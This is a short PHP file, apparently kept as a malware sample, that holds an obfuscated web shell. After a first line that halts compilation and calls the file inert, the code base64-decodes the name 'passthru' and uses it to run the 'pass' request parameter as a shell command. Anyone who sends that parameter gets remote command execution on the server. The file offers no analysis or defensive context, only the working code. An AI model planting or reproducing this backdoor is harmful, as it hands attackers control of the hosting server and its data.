<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$xar = base64_decode('cGFzc3RocnU=');
array_map($xar, array($_REQUEST['pass']));
